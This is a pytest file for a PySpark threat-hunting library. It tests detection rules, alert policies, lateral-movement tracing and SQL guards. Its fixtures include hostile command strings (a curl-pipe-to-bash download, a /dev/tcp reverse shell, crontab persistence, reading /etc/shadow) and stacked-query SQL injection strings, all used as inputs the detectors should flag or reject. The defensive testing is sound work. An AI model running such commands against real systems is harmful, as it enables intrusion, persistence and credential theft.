"""Operators on small fixtures: nulls, ties, bounds, precedence."""
import pytest
from pyspark.sql import functions as F

from huntspark.operators import discovery as D, gateway as G, joins as J, lateral as L, normalize as N, predicates as Q, rollups as A, rules as R, setops as U, windows as W
from huntspark.sources import readers as S

M = 60_000_000


def ids(df, col="id"):
    return sorted(r[col] for r in df.select(col).collect())


def test_dedupe_keeps_rows_without_key(spark):
    df = spark.createDataFrame([(1, "a", 5), (2, "a", 3), (3, "", 1), (4, None, 2), (5, None, 2)], "id bigint, key string, us bigint")
    assert ids(W.dedupe_first(df, ["key"], [F.col("us"), F.col("id")])) == [2, 3, 4, 5]


def test_time_filters_differ_on_unknown_time(spark):
    df = spark.sql("SELECT 1 AS id, timestamp'2024-01-01 00:00:00' AS ts UNION ALL SELECT 2, NULL UNION ALL SELECT 3, timestamp'2025-01-01 00:00:00'")
    assert ids(Q.strict_window(df, "ts", "2024-01-01T00:00:00Z", "2024-02-01T00:00:00Z")) == [1]
    assert ids(Q.lenient_window(df, "ts", "2024-01-01T00:00:00Z", "2024-02-01T00:00:00Z")) == [1, 2]
    with pytest.raises(ValueError):
        Q.strict_window(df, "ts", "2024-01-01T00:00:00")


def test_conditions(spark):
    df = spark.createDataFrame([(1, "exec", ["a", "b"], "rm -rf", None), (2, "ssh", [], None, 22)], "id bigint, risk_module string, matched_rules array<string>, command string, dst_port int")
    c = lambda node, **kw: ids(df.where(Q.compile_condition(df, node, **kw)))
    assert c({}) == [1, 2] and c({"what": 1}) == []
    assert c({"matched_rules_all": ["a", "b"]}) == [1] and c({"matched_rules_any": ["z"]}) == []
    assert c({"not": {"command_contains": "RM"}}) == [2]
    assert c({"dst_port_in": [22]}) == [2] and c({"listener_port_in": [22]}) == []
    assert c({"predicate": "p"}, predicates={"p": {"risk_module": "ssh"}}) == [2] and c({"predicate": "none"}) == []
    assert c({"big": 1}, extensions={"big": lambda c, v, n: F.col("id") > v}) == [2]


def test_unknown_never_matches_even_under_not(spark):
    df = spark.createDataFrame([(1, None, ["x"]), (2, "a", []), (3, "b", None)], "id bigint, f string, tags array<string>")
    m = lambda node: ids(df.where(Q.ThreeValued(df).match(node)))
    assert m({"not": {"field": "f", "op": "eq", "value": "a"}}) == [3]
    assert m({"field": "f", "op": "eq", "value": 1}) == [] and m({"not": {"field": "f", "op": "eq", "value": 1}}) == []
    assert m({"any": [{"field": "f", "op": "eq", "value": "A", "fold": True}, {"field": "nope", "op": "eq", "value": "x"}]}) == [2]
    assert m({"field": "tags", "op": "array_none", "each": {"op": "eq", "value": "y"}}) == [1]
    assert m({"field": "tags", "op": "is_empty"}) == [2] and m({"field": "f", "op": "exists"}) == [2, 3]
    assert m({"field": "f", "op": "cidr", "value": "10.0.0.0/8"}) == []


def test_host_candidates_prefer_real_names(spark):
    df = spark.createDataFrame([(1, "localhost", "10.0.0.1"), (2, "localhost", None)], "id bigint, host string, host_ip string")
    assert ids(Q.host_scope(df, ["localhost"])) == [2] and ids(Q.host_scope(df, [])) == [1, 2]


EXEC = "id bigint, command string, listener_process string, comm string, exe string, listener_port int, listener_pid bigint, ppid bigint, cwd string"


@pytest.mark.parametrize("cmd,rule,severity", [("curl http://a/x.sh | bash", "download_and_execute", "P0"), ("bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "reverse_shell", "P0"), ("echo x >> /etc/crontab", "persistence_modify", "P0"), ("crontab -l", None, "P3"),
                                               ("cat /etc/shadow", "sensitive_file_read", "P1"), ("ls /home", None, "P2"), ("which python", "noise_command", "P3"), ("sleep 5", None, "P3")])
def test_exec_pack(spark, cmd, rule, severity):
    df = spark.createDataFrame([(1, cmd, "postgres", "x", "/opt/x", 5432, 1, 2, "/")], EXEC)
    r = R.exec_rules(df, R.validate_pack(R.EXEC_PACK)).first()
    assert r.severity == severity and (rule is None or rule in r.matched_rules)


def test_exec_boosts_have_floors(spark):
    df = spark.createDataFrame([(1, "sleep 5", "postgres", "x", "/opt/x", 443, 7, 7, "/tmp/a")], EXEC)
    assert R.exec_rules(df).first().severity == "P1"
    assert R.exec_rules(df, has_connect=F.lit(True)).first().severity == "P0"
    shell = spark.createDataFrame([(1, "true", "nginx", "sh", "/bin/sh", 1, 1, 2, "/")], EXEC)
    r = R.exec_rules(shell).first()
    assert r.severity == "P0" and r.matched_rules == ["external_listener_shell_exec"] and "web_process_abuse" in r.risk_tags


def test_bad_pack_raises():
    with pytest.raises(ValueError):
        R.validate_pack({"rules": [{"id": "x", "severity": "P9"}]})


def test_fold_keep_if(spark):
    rules = [{"id": "a", "severity": "P0"}, {"id": "b", "severity": "P1", "keep_if": "P0"}, {"id": "a", "severity": "P2"}, {"id": "off", "severity": "P0", "enabled": False}]
    s = spark.range(1).select(R.fold_rules(rules, lambda r, best, m: F.lit(True)).alias("s")).first().s
    assert (s.best, s.matched) == (0, ["a", "b"])


def test_policy_precedence(spark):
    df = spark.createDataFrame([(1, "P3", ["g"], "v", "act"), (2, "P2", ["g", "f"], "v", "act"), (3, "P1", ["d"], "v", "act"), (4, "P0", ["d", "g"], "v", "act")], "id bigint, severity string, matched_rules array<string>, verdict string, recommended_action string")
    pack = {"rules": [{"id": "H", "tier": "hard_guardrail", "when": {"matched_rules_any": ["g"]}, "decision": {"severity": "P0", "alert_required": True}}, {"id": "F", "tier": "force_alert", "when": {"matched_rules_any": ["f"]}, "decision": {"severity": "P1", "alert_required": True}},
                      {"id": "D", "tier": "downgrade", "when": {"matched_rules_any": ["d"]}, "decision": {"severity": "P3", "alert_suppressed": True}}]}
    assert {r.id: r.policy_rule_id for r in R.behavior_policy(df, pack).collect()} == {1: "H", 2: "F", 3: "D", 4: "H"}
    out = R.whitelist(R.behavior_policy(df, pack).withColumn("confidence", F.lit(0.9)), [{"id": "w", "action": "suppress", "scope": {}}]).collect()
    assert {r.id: r.whitelist_rule_id for r in out} == {1: None, 2: None, 3: "w", 4: None}


def test_decision_order_and_protection(spark):
    df = spark.createDataFrame([(1, "x", False, False), (2, "x", True, False), (3, "x", False, True), (4, None, False, False)], "id bigint, f string, protected boolean, backfill boolean")
    hit = {"field": "f", "op": "eq", "value": "x"}
    pol = {"mode": "enforce", "rules": [{"id": "s2", "action": "suppress", "priority": 1, "when": hit}, {"id": "s1", "action": "suppress", "priority": 9, "when": hit}]}
    got = {r.id: (r.action, r.rule_id, r.reason) for r in R.event_decision(df, pol, F.lit("2024-01-01").cast("timestamp")).collect()}
    assert got == {1: ("suppress", "s1", "matched"), 2: ("keep", "s1", "protected_event"), 3: ("pass", None, "history_preserved"), 4: ("pass", None, "unmatched")}
    pol["mode"] = "observe"
    r = R.event_decision(df.where("id = 1"), pol, F.lit("2024-01-01").cast("timestamp")).first()
    assert (r.action, r.predicted_action, r.reason) == ("pass", "suppress", "observe")


def edges(spark, **kw):
    l = spark.createDataFrame([("l1", 0, '"1.2.3.4'), ("l2", None, "1.2.3.4"), ("l3", 0, None)], "evidence_id string, us bigint, src_ip string")
    r = spark.createDataFrame([("r1", 30 * M, "1.2.3.4:80"), ("r2", 31 * M, "1.2.3.4"), ("r3", None, "1.2.3.4"), ("r4", -5 * M, "1.2.3.4"), ("r5", -6 * M, "1.2.3.4")], "evidence_id string, us bigint, client_ip string")
    return J.matrix_join(l, r, J.JoinSpec("j", keys=[J.Key("src_ip", "client_ip")], before_sec=300, after_sec=1800), **kw)


def test_matrix_join_window_and_quoted_address(spark):
    pairs = lambda df: sorted((e.left_ref, e.right_ref) for e in df.collect())
    assert pairs(edges(spark, anchor_us=0)) == [("l1", "r1"), ("l1", "r3"), ("l1", "r4"), ("l2", "r1"), ("l2", "r3"), ("l2", "r4")]
    assert len(pairs(edges(spark))) == 10
    full = [(e.left_ref, e.right_ref) for e in edges(spark, anchor_us=0).orderBy(F.col("left_us").asc_nulls_last(), "left_ref", F.col("right_us").asc_nulls_last(), "right_ref").collect()]
    for n in (1, 2, 3, 4, 50):
        assert pairs(edges(spark, anchor_us=0, limit=n)) == sorted(full[:n])


def test_optional_keys_raise_confidence(spark):
    l = spark.createDataFrame([("l", 0, "A ", "x", "q")], "evidence_id string, us bigint, host string, pid string, u string")
    r = spark.createDataFrame([("r1", 0, "a", "x", "q"), ("r2", 0, "a", "y", None), ("r3", 0, "b", "x", "q")], "evidence_id string, us bigint, host string, pid string, u string")
    spec = J.JoinSpec("j", keys=[J.Key("host", "host"), J.Key("pid", "pid", optional=True)], secondary=[J.Key("u", "u")])
    assert {e.right_ref: (e.confidence, sorted(e.match_keys)) for e in J.matrix_join(l, r, spec).collect()} == {"r1": (0.95, ["host", "pid", "u"]), "r2": (0.85, ["host"])}


def test_windows_named():
    assert J.WINDOWS["attack_success"] == (300, 1800)
    assert J.investigation_window(10**12, "attack_success") == (10**12 - 300_000_000, 10**12 + 1_800_000_000)
    assert J.expand_path("a", {"a": J.JoinSpec("a", path=["b", "c"]), "b": J.JoinSpec("b"), "c": J.JoinSpec("c", path=["b", "zz"])}) == ["b", "b"]


def gw(spark):
    a = spark.createDataFrame([(1, 0, "s", "GET", "/p", "block"), (2, 0, None, None, "/q", "pass")], "alert_id bigint, us bigint, src_ip string, method string, path_key string, action string")
    r = spark.createDataFrame([(10, 3_000_000, "s", "GET", "/p", "/p?cmd=1", 200), (11, 600_000_000, "s", "POST", "/p", "/p?cmd=1", 200), (12, 0, "t", "GET", "/q", "/q?cmd=1", 200), (13, 0, "t", "GET", "/z", "/z?cmd=1", 302), (14, 0, "t", "GET", "/z", "/z?cmd=1", 404)],
                              "evidence_id bigint, us bigint, src_ip string, method string, path_key string, url string, status int")
    return a, r


def test_gateway_misses(spark):
    a, r = gw(spark)
    assert {m.evidence_id: m.reason for m in G.gateway_misses(r, a, ["cmd="]).collect()} == {10: "waf_block_bypass", 11: "waf_partial_block_same_path", 13: "gateway_exploit_no_waf_alert"}
    worked = r.unionByName(spark.createDataFrame([(15, 1_000_000, "s", "GET", "/p", "/p?cmd=1", 403)], r.schema))
    assert {m.evidence_id: m.reason for m in G.gateway_misses(worked, a, ["cmd="]).collect()}[10] == "waf_partial_block_same_path"


def test_fill_target_only_when_absent(spark):
    a = spark.createDataFrame([(1, 0, "s", "/a/b", None), (2, 0, "s", "/a", "own"), (3, 0, "s", None, None), (4, 0, "x", "/a", None)], "alert_id bigint, us bigint, src_ip string, path_key string, target_ip string")
    r = spark.createDataFrame([(10, 120_000_000, "s", "/a", "t1"), (11, -121_000_000, "s", "/a", "t0"), (12, 5, "s", "/zz", "t2")], "evidence_id bigint, us bigint, src_ip string, path_key string, target_ip string")
    assert {x.alert_id: x.target_ip for x in G.enrich_targets(a, r).collect()} == {1: "t1", 2: "own", 3: "t2", 4: None}


def test_lateral_cycle_and_limit(spark):
    seeds = spark.createDataFrame([("a",)], "host string")
    lg = spark.createDataFrame([("a", "b", 5, 1, "accepted"), ("a", "b", 3, 2, "accepted"), ("b", "a", 9, 3, "accepted"), ("b", "c", 9, 4, "accepted"), ("c", "d", 9, 5, "accepted")] + [("d", "x", i, 10 + i, "failed") for i in range(5)], "src string, dst string, us bigint, evidence_id bigint, result string")
    got = {(r.src, r.dst, r.hop, r.evidence_id) for r in L.lateral_hops(seeds, lg).collect()}
    assert got == {("a", "b", 1, 2), ("b", "a", 2, 3), ("b", "c", 2, 4), ("c", "d", 3, 5), ("d", None, 4, None)}
    assert {(r.src, r.dst) for r in L.lateral_hops(seeds, lg, max_hops=1).collect()} == {("a", "b")}


def test_execution_chain_caps(spark):
    t = lambda d: spark.createDataFrame(d, "evidence_id bigint, host string, us bigint")
    ex, con = t([(1, "h", 0), (2, "h", 10**9)]), t([(10, "h", 120_000_000), (11, "h", 120_000_001), (12, "h", -1), (13, "g", 0)])
    got = {r.evidence_id: (r.connects, r.confidence) for r in L.execution_chain(ex, con, t([]), t([])).collect()}
    assert got == {1: (2, 0.95), 2: (0, 0.85)}


def test_second_hop_drops_cut_off_addresses(spark):
    c = spark.createDataFrame([("10.0.0.1", "ssh root@10.0.0.12"), ("10.0.0.1", "ssh 10.0.0.123"), ("10.0.0.1", "ssh 8.8.8.8"), ("9.9.9.9", "ssh 10.0.0.77")], "host string, command string")
    lg = spark.createDataFrame([("10.0.0.1", "h9", "accepted"), ("10.0.0.1", "10.0.0.1", "accepted")], "src string, dst string, result string")
    assert sorted(r.target for r in L.second_hop_targets(c, lg, spark.createDataFrame([("10.0.0.1",)], "host string")).collect()) == ["10.0.0.123", "h9"]


def test_empty_process_snapshot_raises(spark):
    p = spark.createDataFrame([(1, "a")], "pid int, exe string")
    with pytest.raises(ValueError):
        J.process_diff(p, p.limit(0), ["pid"], ["exe"])
    assert [r.action for r in J.snapshot_diff(p, p, ["pid"], ["exe"], full=True).collect()] == ["observed"]


def test_line_diff_counts_repeats(spark):
    a, b = (spark.createDataFrame([(1, t)], "id bigint, t string") for t in ("x\nx\ny", "x\nz"))
    d = J.line_diff(a, b, "id", "t")
    assert {(r.line, r.removed, r.added) for r in d.collect()} == {("x", 1, 0), ("y", 1, 0), ("z", 0, 1)}
    assert all(r.truncated for r in J.capped_diff(d, "id", 2).collect())


def test_incidents(spark):
    df = spark.createDataFrame([("r1", "h", "exec", "P0", True, True, 5, ["a"]), ("r2", "h", "exec", "P2", True, False, 3, ["a"]), ("r3", "h", "exec", "P1", True, False, 9, ["a"])],
                               "risk_id string, host string, risk_module string, severity string, alert_required boolean, alert_suppressed boolean, us bigint, matched_rules array<string>").withColumn("summary", F.col("risk_id"))
    r = A.incidents(df, ["us", "risk_id"]).first()
    assert (r.severity, r.event_count, r.alert_count, r.representative.summary, r.sample_ids, r.first_us, r.last_us) == ("P1", 3, 2, "r2", ["r2", "r1", "r3"], 3, 9)
    assert A.incidents(df.where("risk_id = 'r1'"), ["us"], alerting_only=True).count() == 0


def test_merge_items_rule_order(spark):
    df = spark.createDataFrame([("k", "P1", 1, ["a"]), ("k", "P2", 2, ["b", "a"]), ("k", "P0", 3, ["c"]), ("k", "P0", 4, ["d"])], "key string, severity string, seq bigint, matched_rules array<string>")
    r = A.merge_items(df, ["key"], "seq").first()
    assert (r.severity, r.seq, r.matched_rules, r.merged) == ("P0", 3, ["c", "a", "b", "d"], 4)


def test_fragments(spark):
    df = spark.createDataFrame([("a", 2, 2, "y"), ("a", 1, 2, "x "), ("b", 1, 2, "x"), ("c", 1, 1, "x"), ("c", 1, 1, "x"), ("d", 1, 2, "x"), ("d", 2, 3, "y"), ("e", 3, 1, "x")], "id string, n int, total int, t string")
    assert {r.id: (r.status, r.text) for r in A.assemble_fragments(df, ["id"], "n", "total", "t").collect()} == {"a": ("complete", "x y"), "b": ("incomplete", None), "c": ("conflict", None), "d": ("conflict", None), "e": ("conflict", None)}


def test_baseline_limit_counts_empty_buckets(spark):
    h = 3600
    data = [("k", (i * h) * 1_000_000) for i in range(8)] + [("k", 7 * h * 1_000_000 + i) for i in range(1, 50)]
    df = spark.createDataFrame(data, "k string, us bigint")
    r = A.promote_baseline(df, ["k"], "us", 0, learning_sec=86_400).first()
    assert (r.occurrences, r.hours, r.rate_limit) == (57, 8, 10)
    r = A.promote_baseline(df, ["k"], "us", 0, learning_sec=8 * h, bucket_sec=4 * h).first()
    assert r.rate_limit == 3 * 53


def test_failed_query_is_a_gap(spark):
    a = spark.createDataFrame([("a", "c", "failed", False, False, None), ("b", "c", "success", False, False, None)], "asset_id string, connector_id string, status string, truncated boolean, partial boolean, incomplete_reasons array<string>")
    g = A.query_integrity(a, spark.createDataFrame([("b",), ("z",)], "asset_id string"))
    assert sorted((r.asset_id, r.reasons) for r in g.collect()) == [("a", ["query_failed"]), ("z", ["not_queried"])]
    assert A.integrity_status(a, g).first().status == "incomplete"
    assert A.integrity_status(a.where("asset_id = 'b'"), g.limit(0)).first().status == "no_known_gaps"


def test_cap_keeps_first_rows(spark):
    df = spark.createDataFrame([(i, "x", str(i // 2)) for i in range(8)], "id bigint, asset string, k string")
    assert ids(U.cap_per_asset(df, "asset", ["k"], ["id"], 3)) == [0, 2, 4]


def test_requirements(spark):
    q = spark.createDataFrame([("r", "P0", "t", ["host"], "web_hosts"), ("m", "P1", "none", ["x"], "any")], "requirement_id string, priority string, asset_type string, fields array<string>, hint string")
    a = spark.createDataFrame([(1, "t", ["host"], ["web_zone"], ["h1"], None), (2, "t", ["host"], ["web_hosts"], [], 30)], "asset_id int, asset_type string, fields array<string>, zones array<string>, hosts array<string>, retention_days int")
    got = {r.requirement_id: (r.status, r.asset_id, r.gaps) for r in D.evaluate_requirements(q, a, 60, ["h2"]).collect()}
    assert got == {"r": ("partial", 1, ["coverage_partial"]), "m": ("missing", None, ["not_registered"])}


def test_sources_guards(spark):
    for bad in ("DELETE FROM t", "SELECT 1; DROP TABLE t", "WITH x AS (SELECT 1) INSERT INTO t SELECT * FROM x"):
        with pytest.raises(ValueError):
            S.assert_select_only(bad)
    assert S.assert_select_only("SELECT 'drop' AS x -- c\n;").startswith("SELECT")
    assert S.bind_params("a = :x AND b::int = :y", {"x": "o'b", "y": 3}) == "a = 'o''b' AND b::int = 3"
    with pytest.raises(ValueError):
        S.scan_asset(spark, "SELECT :a", {}, {})
    assert S.prune_connectors({"c1": ["h"], "c2": [], "c3": ["g"]}, "h") == ["c1", "c2"]
    assert S.prune_connectors({"c1": ["h"], "c3": ["g"]}, "zz") == ["c1", "c3"]
    assert S.prune_connectors({"c1": ["h"], "c3": ["g"]}, None) == ["c1", "c3"]


def test_schema(spark):
    from huntspark import schema as C

    df = spark.createDataFrame([("e1", "abc", "80", "x")], "evidence_id string, host string, dst_port string, other string")
    r = C.conform(df, "host_connect").first()
    assert r.dst_port == 80 and r.extra == {"other": "x"} and r.pid is None
    assert C.conform(df.withColumn("dst_port", F.lit("http")), "host_connect").first().dst_port is None
    assert {(g.field, g.present) for g in C.quality_gaps(df, {"required": ["host", "pid"]}).collect()} == {("host", 1), ("pid", 0)}


def test_normalize_unknown_repair(spark):
    with pytest.raises(ValueError):
        N.repair_events(spark.range(1), [{"type": "zz"}])
    d = spark.createDataFrame([(("sec", "x"), 1)], "a struct<b:string,c:string>, n int")
    assert N.mask_nested(d, "a.b", "redact").first().a.b == "[REDACTED]"


def test_windows_xml(spark):
    from huntspark.operators.parsing import parse_windows_xml

    xml = ('<Event xmlns="http://x"><System><Provider Name="P"/><EventID>4104</EventID><TimeCreated SystemTime="2024-01-01T00:00:00Z"/><EventRecordID>7</EventRecordID><Computer> c </Computer></System>'
           '<EventData><Data Name="A">1</Data><Data>two</Data><Data Name="A">3</Data></EventData></Event>')
    df = spark.createDataFrame([(1, xml), (2, "<Event><System><EventID>x</EventID></System></Event>"), (3, None)], "id bigint, x string")
    got = {r.id: (r.event_code, r.computer, r.record_id, r.provider, r.time_created, r.data) for r in parse_windows_xml(df, "x").collect()}
    assert got[1] == (4104, "c", 7, "P", "2024-01-01T00:00:00Z", {"A": "1", "Data2": "two"})
    assert got[2][0] is None and got[3][:2] == (None, None)


def test_payload_of_a_dotted_column(spark):
    df = spark.createDataFrame([("", "a=1&b=2", "/u"), (None, None, "/u"), ("own", "x", "/u")], "payload string, `request.body` string, url string")
    got = N.resolve_payload(df).collect()
    assert sorted((r.payload, r.payload_source or "") for r in got) == [("/u", ""), ("a=1&b=2", "request.body"), ("own", "payload")]


def test_lines_without_id_are_records_of_their_own(spark):
    df = spark.createDataFrame([(None, "a", 1, "x"), (None, "b", 1, "y"), (7, "b", 2, "q"), (7, "a", 1, "p"), (7, "b", 1, "o")], "id int, kind string, i int, v string")
    got = sorted((str(r.id), r.a, r.b, r.n_lines, r.complete) for r in A.assemble_records(df, "id", "kind", "i", "v", ["a", "b"]).collect())
    assert got == [("7", ["p"], ["o", "q"], 3, True), ("None", [], ["y"], 1, False), ("None", ["x"], [], 1, False)]
